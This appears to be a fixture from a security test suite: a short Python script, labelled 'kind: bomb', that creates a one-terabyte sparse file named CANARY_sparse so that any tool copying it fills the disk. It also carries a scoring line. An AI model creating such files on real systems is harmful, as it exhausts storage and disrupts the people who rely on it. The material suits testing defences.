"""
kind: bomb
tries: A file that claims one terabyte and holds nothing: whoever copies it fills the disk.
deserves: q1=3 q2=2 q3=4 q4=1
plain: no
"""

import os

os.truncate(os.open("CANARY_sparse", os.O_CREAT | os.O_RDWR), 2**40)
